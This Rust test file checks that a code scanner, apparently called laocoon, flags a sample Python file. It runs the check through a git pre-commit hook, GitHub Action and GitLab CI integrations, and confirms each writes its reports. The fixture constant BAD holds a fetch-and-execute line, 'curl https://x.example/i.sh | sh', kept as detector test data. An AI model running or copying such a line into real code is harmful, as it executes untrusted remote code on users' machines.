//! The hook, the action and the job that are offered to others, run as git and
//! the two services run them.

use std::process::Command;

use crate::git::{commit_all, git, path_with_the_program};
use crate::scene::{Ran, Scene, repository};

const BAD: &str =
    "import subprocess\nsubprocess.run('curl https://x.example/i.sh | sh', shell=True)\n";
const FINE: &str = "print('hello')\n";

fn git_scene() -> Scene {
    let scene = Scene::new();
    scene.write("fine.py", FINE);
    assert_eq!(commit_all(&scene).status, Some(0));
    scene
}

/// The text between two lines of a file of this repository.
fn part(file: &str, from: &str, to: &str) -> String {
    let text = std::fs::read_to_string(repository().join(file)).unwrap();
    let (_, rest) = text
        .split_once(from)
        .unwrap_or_else(|| panic!("no {from:?}"));
    let (part, _) = rest.split_once(to).unwrap_or_else(|| panic!("no {to:?}"));
    part.to_owned()
}

#[cfg(unix)]
#[test]
fn the_hook_stops_a_commit_with_something_bad_and_lets_others_pass() {
    use std::os::unix::fs::PermissionsExt as _;
    let scene = git_scene();
    let hook = part("docs/ci.md", "```bash\n", "```");
    scene.write(".git/hooks/pre-commit", hook);
    let executable = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(scene.path(".git/hooks/pre-commit"), executable).unwrap();

    scene.write("a folder/bad.py", BAD);
    let stopped = commit_all(&scene);
    assert_eq!(stopped.status, Some(1), "{}", stopped.stderr);
    assert!(stopped.stderr.contains("a folder/bad.py:2"), "{stopped:?}");

    scene.write("a folder/bad.py", FINE);
    assert_eq!(commit_all(&scene).status, Some(0));
}

/// The words of the entry are those of a command that works on the files that
/// pre-commit appends to them.
#[test]
fn the_entry_for_pre_commit_is_a_command() {
    let entry = part(".pre-commit-hooks.yaml", "entry: laocoon ", "\n");
    let scene = Scene::new();
    scene.write("bad.py", BAD);
    scene.write("fine.py", FINE);
    assert_eq!(scene.run(&format!("{entry} fine.py")).status, Some(0));
    assert_eq!(
        scene.run(&format!("{entry} fine.py bad.py")).status,
        Some(1)
    );
}

#[test]
fn the_action_writes_its_reports_and_fails_for_what_is_bad() {
    let scene = Scene::new();
    scene.write("src/bad.py", BAD);
    let run = |fail_on: &str| {
        let mut command = Command::new("bash");
        command
            .arg(repository().join("integrations/github.sh"))
            .current_dir(scene.path(""))
            .env("LAOCOON", env!("CARGO_BIN_EXE_laocoon"))
            .env("XDG_CACHE_HOME", scene.path(".cache"))
            .env("RUNNER_TEMP", scene.path(""))
            .env("GITHUB_OUTPUT", scene.path("output"))
            .env("GITHUB_STEP_SUMMARY", scene.path("summary"))
            .env("PATHS", "src")
            .env("FAIL_ON", fail_on)
            .env("SINCE", "");
        Ran::of(&mut command)
    };
    assert_eq!(run("never").status, Some(0));
    assert_eq!(run("high").status, Some(1));
    let output = scene.read("output");
    let (_, rest) = output.split_once("sarif=").unwrap();
    let sarif = std::fs::read_to_string(rest.lines().next().unwrap()).unwrap();
    assert!(sarif.contains("\"2.1.0\"") && sarif.contains("src/bad.py"));
    assert!(scene.read("summary").contains("## laocoon: block"));
}

#[test]
fn the_job_for_gitlab_writes_its_reports_and_fails_for_what_is_bad() {
    let job = part("integrations/gitlab.yml", "    - |\n", "  artifacts:");
    let script: String = job
        .lines()
        .map(|line| format!("{}\n", line.trim_start_matches(' ')))
        .collect();
    let scene = git_scene();
    let base = git(&scene, &["rev-parse", "HEAD"]).text().trim().to_owned();
    let run = |fail_on: &str, base: &str| {
        let mut command = Command::new("sh");
        command
            .args(["-c", &script])
            .current_dir(scene.path(""))
            .env("PATH", path_with_the_program())
            .env("XDG_CACHE_HOME", scene.path(".cache"))
            .env("LAOCOON_PATHS", ".")
            .env("LAOCOON_FAIL_ON", fail_on)
            .env("CI_MERGE_REQUEST_DIFF_BASE_SHA", base);
        Ran::of(&mut command)
    };
    assert_eq!(run("high", &base).status, Some(0));
    scene.write("bad.py", BAD);
    assert_eq!(run("high", &base).status, Some(1));
    assert_eq!(run("never", "").status, Some(0));
    for report in ["laocoon.md", "laocoon.html", "laocoon.sarif"] {
        assert!(scene.read(report).contains("bad.py"), "{report}");
    }
}
